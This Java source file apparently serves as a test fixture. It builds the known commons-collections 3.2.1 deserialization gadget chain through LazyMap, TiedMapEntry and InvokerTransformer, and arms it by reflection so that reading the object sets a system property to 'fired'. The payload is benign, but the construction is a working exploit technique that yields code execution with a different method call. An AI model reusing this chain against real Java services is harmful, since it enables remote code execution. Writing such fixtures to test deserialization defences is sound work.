package io.delegate;

import java.lang.reflect.Field;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * A known chain through commons-collections 3.2.1: who reads it by Java serialization asks an entry
 * for its hash, the entry a map for a value, and the map makes one by calling {@code
 * System.setProperty}.
 */
final class Gadget {
  private Gadget() {}

  /** Sets that property to "fired" in the JVM that reads it, and in no other. */
  static Set<Object> setting(String property) throws ReflectiveOperationException {
    Transformer harmless = new ConstantTransformer("harmless");
    ChainedTransformer chain = new ChainedTransformer(new Transformer[] {harmless});
    Map<?, ?> lazy = LazyMap.decorate(new HashMap<>(), chain);
    TiedMapEntry entry = new TiedMapEntry(lazy, "key");
    Set<Object> set = new HashSet<>();
    set.add(entry);
    lazy.remove("key"); // what asking for the hash here has left
    Class<?>[] strings = {String.class, String.class};
    Transformer[] armed = {
      new ConstantTransformer(System.class),
      new InvokerTransformer(
          "getMethod",
          new Class<?>[] {String.class, Class[].class},
          new Object[] {"setProperty", strings}),
      new InvokerTransformer(
          "invoke",
          new Class<?>[] {Object.class, Object[].class},
          new Object[] {null, new Object[] {property, "fired"}}),
      new ConstantTransformer("done"),
    };
    Field transformers = ChainedTransformer.class.getDeclaredField("iTransformers");
    transformers.setAccessible(true);
    transformers.set(chain, armed);
    return set;
  }
}
